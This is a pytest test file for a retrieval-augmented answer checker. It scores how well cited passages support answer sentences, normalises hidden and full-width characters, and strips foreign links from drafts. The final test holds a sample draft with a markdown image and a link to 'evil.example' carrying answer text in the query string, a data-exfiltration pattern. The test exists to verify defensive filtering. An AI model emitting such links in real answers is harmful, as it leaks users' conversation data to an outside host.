import pytest

from adaptive_rag.answer.citations import read_markers
from adaptive_rag.answer.grounding import ground, review_draft
from tests.answer.made import candidate, request, sentences_of, vectors

DOCUMENTS = [
    candidate("The Long Wall was built between 1955 and 1958. It protects 1,162 homes in the low town."),
    candidate("The ferry is not free. Tickets are sold at the harbour office."),
]


def grounded(answer):
    claims = read_markers(answer, len(DOCUMENTS)).claims
    return ground(claims, vectors([c.text for c in claims]), DOCUMENTS, [sentences_of(d) for d in DOCUMENTS])


@pytest.mark.parametrize(
    ("answer", "share"),
    [
        ("The Long Wall was built between 1955 and 1958 [1].", 1.0),
        ("The wall protects 1162 homes in the low town [1].", 1.0),
        ("The wall protects 2,000 homes in the low town [1].", 0.0),
        ("The Long Wall was built between 1955 and 1958 [2].", 0.0),
        ("The Long Wall was built between 1955 and 1958 [1][2].", 1.0),
        ("The ferry is free [2].", 0.0),
        ("The ferry is not free [2].", 1.0),
        ("The Long Wall was not built between 1955 and 1958 [1].", 0.0),
        ("The mayor resigned in disgrace over a hotel [1].", 0.0),
        ("The Long Wall was built between 1955 and 1958.", 0.0),
        ("Tickets are sold at the harbour office [2]. Whales sing opera [2].", 0.5),
        ("Tickets are sold at the harbour office [2]. The ferry is not free.", 1.0),
        ("## Ferry\nTickets are sold at the harbour office [2].", 1.0),
        ("", 0.0),
    ],
)
def test_the_share_of_supported_sentences(answer, share):
    assert grounded(answer).share == share


def test_the_unsupported_sentences_are_listed_with_their_reasons():
    result = grounded("The ferry is not free [2]. The wall protects 2,000 homes [1]. Nobody knows.")

    assert result.unsupported == ["The wall protects 2,000 homes.", "Nobody knows."]
    assert "2000" in result.reasons[0]


def test_a_sentence_without_any_cited_passage_says_so():
    assert grounded("The ferry is not free.").reasons == ["it cites no passage"]


def test_a_document_with_hidden_and_styled_letters_is_compared_as_the_model_read_it():
    text = "The sea w\u200ball is \uff12,\uff13\uff14\uff10 me\u00adtres long. It was fin\ufe01ished in 1968."
    asked = request("How long is the sea wall?", [candidate(text)])
    review = review_draft("The sea wall is 2,340 metres long [1].", asked, vectors)
    assert review.grounding.share == 1.0
    # The citation quotes the document as it is.
    [citation] = review.citations
    assert citation["quote"] == text[: text.index(" It was")]
    assert text[citation["start"] : citation["end"]] == citation["quote"]


def test_a_draft_is_reviewed_without_its_foreign_links_and_hidden_characters():
    asked = request(
        "Is the ferry free?", [candidate("The ferry is not free. See https://town.example/ferry.")]
    )
    draft = (
        "The ferry\u200b is not free [1]. ![x](http://evil.example/?q=ferry+free) "
        "[See](https://town.example/ferry) or [see](https://evil.example/?q=free)."
    )
    review = review_draft(draft, asked, vectors)
    assert review.text.startswith("The ferry is not free [1]. x [See](https://town.example/ferry) or see.")
    assert review.removed == ["http://evil.example/", "https://evil.example/"]
    assert [citation["marker"] for citation in review.citations] == [1]
